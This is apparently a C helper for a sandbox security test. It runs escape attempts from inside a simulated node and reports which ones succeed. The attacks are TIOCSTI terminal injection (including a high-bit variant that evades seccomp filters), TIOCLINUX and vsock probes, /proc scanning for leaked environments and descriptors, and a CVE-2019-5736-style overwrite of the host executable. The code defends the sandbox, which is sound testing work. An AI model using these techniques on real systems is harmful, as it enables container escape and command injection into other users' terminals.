/* Attacks run from inside a node by tests/integration/25-security-exec.t.  Static,
 * so it runs in any rootfs.  Each mode prints what it achieved; the test decides.
 *
 *   node_attack tiocsti [-d SECONDS] [-o FILE] TEXT
 *       push TEXT into the input of every terminal it can reach (fds 0-2 and
 *       /dev/tty), after SECONDS; prints (to FILE, else stdout) "tiocsti fd=N:
 *       ok|ERRNO" per try, also with garbage in the upper half of the request
 *   node_attack tioclinux
 *       ioctl(0, TIOCLINUX): prints "tioclinux: ok" or "tioclinux: ERRNO"
 *   node_attack vsock
 *       socket(AF_VSOCK, SOCK_STREAM): prints "vsock: ok" or "vsock: ERRNO"
 *   node_attack proc MARKER DEV:INO SECONDS
 *       for SECONDS, watch every process that appears and try to reach the host
 *       through /proc/PID/{environ,exe,mem,cwd,root,fd/N}: MARKER in an
 *       environment, an exe that is the host binary DEV:INO, or a memfd exe
 *       (netsim's sealed copy) that can be written once its process is gone.
 *       Ends with one summary line "proc: protected=N foreign=N hostexe=N
 *       leaks=N opened=N overwrote=N". */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif

static const char *errname(int e)
{
	switch (e) {
	case EPERM: return "EPERM";
	case EACCES: return "EACCES";
	case ENOTTY: return "ENOTTY";
	case ENXIO: return "ENXIO";
	case EBADF: return "EBADF";
	case EIO: return "EIO";
	case EAFNOSUPPORT: return "EAFNOSUPPORT";
	case EINVAL: return "EINVAL";
	case ETXTBSY: return "ETXTBSY";
	case ENOENT: return "ENOENT";
	case ESRCH: return "ESRCH";
	default: return strerror(e);
	}
}

static FILE *report;

static void tiocsti_fd(int fd, const char *label, const char *text)
{
	int first = 0;
	for (int variant = 0; variant < 2; variant++) {
		/* variant 1: the request with bits above 32 set, which the kernel
		 * ignores and a careless 64-bit filter compares */
		unsigned long request = TIOCSTI | (variant ? 0xdead00000000UL : 0);
		int ok = 0, err = 0;
		for (const char *p = text; *p; p++) {
			if (syscall(SYS_ioctl, fd, request, p) == 0)
				ok++;
			else if (!err)
				err = errno;
		}
		fprintf(report, "tiocsti %s%s: %s\n", label, variant ? " (high bits)" : "",
			ok ? "ok" : errname(err));
		first += ok;
	}
	(void)first;
}

static int mode_tiocsti(int argc, char **argv)
{
	int delay = 0, i = 2;
	report = stdout;
	for (; i + 1 < argc && argv[i][0] == '-'; i += 2) {
		if (strcmp(argv[i], "-d") == 0)
			delay = atoi(argv[i + 1]);
		else if (strcmp(argv[i], "-o") == 0 && !(report = fopen(argv[i + 1], "w")))
			return 1;
	}
	if (i >= argc)
		return 2;
	setvbuf(report, NULL, _IOLBF, 0);
	sleep((unsigned)delay);
	for (int fd = 0; fd < 3; fd++) {
		char label[16];
		snprintf(label, sizeof(label), "fd=%d", fd);
		tiocsti_fd(fd, label, argv[i]);
	}
	int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
	if (tty < 0)
		fprintf(report, "tiocsti /dev/tty: open %s\n", errname(errno));
	else
		tiocsti_fd(tty, "/dev/tty", argv[i]);
	fclose(report);
	return 0;
}

/* Not a virtual console, so without the filter this is ENOTTY/EINVAL, with it
 * EPERM. */
static int mode_tioclinux(void)
{
	char subcode[2] = { 6, 0 }; /* TIOCL_GETSHIFTSTATE */
	int rc = ioctl(0, TIOCLINUX, subcode);
	printf("tioclinux: %s\n", rc == 0 ? "ok" : errname(errno));
	return 0;
}

static int mode_vsock(void)
{
	int fd = socket(AF_VSOCK, SOCK_STREAM, 0);
	printf("vsock: %s\n", fd >= 0 ? "ok" : errname(errno));
	/* the same with garbage in the upper half of the family */
	fd = (int)syscall(SYS_socket, 0xbeef00000000UL | AF_VSOCK, SOCK_STREAM, 0);
	printf("vsock (high bits): %s\n", fd >= 0 ? "ok" : errname(errno));
	return 0;
}

/* ---- proc ------------------------------------------------------------------ */

#define MAX_PIDS 4096
#define MAX_KEPT 64

static bool old_pid[MAX_PIDS * 16];
static bool done_pid[MAX_PIDS * 16];
static struct { int fd; int pid; } kept[MAX_KEPT];
static int nkept;
static long protected_count, foreign, hostexe, leaks, opened, overwrote;
static unsigned long long host_dev, host_ino;

static bool pid_slot(int pid)
{
	return pid > 0 && pid < (int)(sizeof(old_pid) / sizeof(old_pid[0]));
}

static void each_pid(void (*fn)(int pid, void *arg), void *arg)
{
	DIR *d = opendir("/proc");
	if (!d)
		return;
	struct dirent *e;
	while ((e = readdir(d))) {
		int pid = atoi(e->d_name);
		if (pid > 0 && pid != getpid() && pid_slot(pid))
			fn(pid, arg);
	}
	closedir(d);
}

static void mark_old(int pid, void *arg)
{
	(void)arg;
	old_pid[pid] = true;
}

static void check_environ(int pid, const char *marker)
{
	char path[64], buf[65536];
	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	ssize_t n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return;
	buf[n] = '\0';
	for (ssize_t i = 0; i < n; i++)
		if (buf[i] == '\0')
			buf[i] = '\n';
	if (strstr(buf, marker)) {
		printf("LEAK environ of %d\n", pid);
		leaks++;
	}
}

/* Whether anything of pid's /proc entry besides exe can be opened. */
static int try_open_rest(int pid)
{
	static const char *const names[] = { "mem", "cwd", "root", "fd" };
	int got = 0;
	for (size_t i = 0; i < 4; i++) {
		char path[64];
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
		int fd = open(path, strcmp(names[i], "mem") == 0 ? O_RDONLY : O_RDONLY | O_DIRECTORY);
		if (fd < 0)
			continue;
		if (strcmp(names[i], "fd") == 0) {
			DIR *d = fdopendir(fd);
			struct dirent *e;
			while (d && (e = readdir(d))) {
				if (e->d_name[0] == '.')
					continue;
				int f = openat(dirfd(d), e->d_name, O_RDONLY | O_NONBLOCK | O_NOCTTY);
				if (f >= 0) {
					printf("OPENED /proc/%d/fd/%s\n", pid, e->d_name);
					got++;
					close(f);
				}
			}
			if (d)
				closedir(d);
			continue;
		}
		printf("OPENED %s\n", path);
		got++;
		close(fd);
	}
	return got;
}

static void keep(int fd, int pid)
{
	if (nkept < MAX_KEPT) {
		kept[nkept].fd = fd;
		kept[nkept].pid = pid;
		nkept++;
	} else {
		close(fd);
	}
}

static void examine(int pid, void *arg)
{
	const char *marker = arg;
	if (old_pid[pid])
		return;
	check_environ(pid, marker);
	if (done_pid[pid])
		return;

	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		if (errno != EACCES)
			return; /* gone, or a zombie */
		protected_count++;
		int got = try_open_rest(pid);
		/* a process that became a node program meanwhile may be opened */
		int again = open(path, O_PATH | O_CLOEXEC);
		if (again >= 0) {
			close(again);
		} else if (got && errno == EACCES) {
			/* still the same non-dumpable process: a real breach (a process
			 * that exited meanwhile has no mm and no longer guards these) */
			char comm[64] = "?";
			snprintf(path, sizeof(path), "/proc/%d/comm", pid);
			FILE *f = fopen(path, "r");
			if (f) {
				if (fgets(comm, sizeof(comm), f))
					comm[strcspn(comm, "\n")] = '\0';
				fclose(f);
			}
			printf("BREACH %d (%s): %d entries opened\n", pid, comm, got);
			opened += got;
		}
		return;
	}
	struct stat st;
	if (fstat(fd, &st) < 0) {
		close(fd);
		return;
	}
	if ((unsigned long long)st.st_dev == host_dev && (unsigned long long)st.st_ino == host_ino) {
		printf("HOSTEXE %d\n", pid);
		hostexe++;
		opened += try_open_rest(pid);
		keep(fd, pid);
		done_pid[pid] = true;
	} else if (st.st_nlink == 0) {
		/* not a file of any directory: a memfd (netsim's sealed copy) */
		printf("FOREIGN exe of %d (dev %llu, %lu links)\n", pid, (unsigned long long)st.st_dev,
		       (unsigned long)st.st_nlink);
		foreign++;
		keep(fd, pid);
		done_pid[pid] = true;
	} else {
		close(fd); /* a node program: the node's own file */
		done_pid[pid] = true;
	}
}

/* The CVE-2019-5736 step: once the process is gone, its text is no longer
 * busy; write through the descriptor we kept. */
static void try_overwrite(void)
{
	for (int i = 0; i < nkept; i++) {
		if (kept[i].fd < 0)
			continue;
		char path[64];
		snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i].fd);
		int w = open(path, O_WRONLY);
		if (w < 0) {
			if (errno == ETXTBSY)
				continue; /* still running: later */
			printf("exe of %d: open for writing: %s\n", kept[i].pid, errname(errno));
		} else {
			ssize_t n = pwrite(w, "#", 1, 0);
			if (n == 1) {
				printf("OVERWROTE exe of %d\n", kept[i].pid);
				overwrote++;
			} else {
				printf("exe of %d: write: %s\n", kept[i].pid, errname(errno));
			}
			close(w);
		}
		close(kept[i].fd);
		kept[i].fd = -1;
	}
}

static int mode_proc(int argc, char **argv)
{
	if (argc != 5 || sscanf(argv[3], "%llu:%llu", &host_dev, &host_ino) != 2)
		return 2;
	const char *marker = argv[2];
	double seconds = atof(argv[4]);
	each_pid(mark_old, NULL);
	old_pid[getppid()] = true;

	struct timespec start, now;
	clock_gettime(CLOCK_MONOTONIC, &start);
	do {
		each_pid(examine, (void *)marker);
		try_overwrite();
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while ((double)(now.tv_sec - start.tv_sec) + (double)(now.tv_nsec - start.tv_nsec) / 1e9 < seconds);
	sleep(1);
	try_overwrite();
	printf("proc: protected=%ld foreign=%ld hostexe=%ld leaks=%ld opened=%ld overwrote=%ld\n",
	       protected_count, foreign, hostexe, leaks, opened, overwrote);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 3 && strcmp(argv[1], "tiocsti") == 0)
		return mode_tiocsti(argc, argv);
	if (argc == 2 && strcmp(argv[1], "tioclinux") == 0)
		return mode_tioclinux();
	if (argc == 2 && strcmp(argv[1], "vsock") == 0)
		return mode_vsock();
	if (argc >= 2 && strcmp(argv[1], "proc") == 0)
		return mode_proc(argc, argv);
	fprintf(stderr, "usage: node_attack tiocsti [-d S] [-o FILE] TEXT | tioclinux | vsock | proc MARKER DEV:INO SECONDS\n");
	return 2;
}
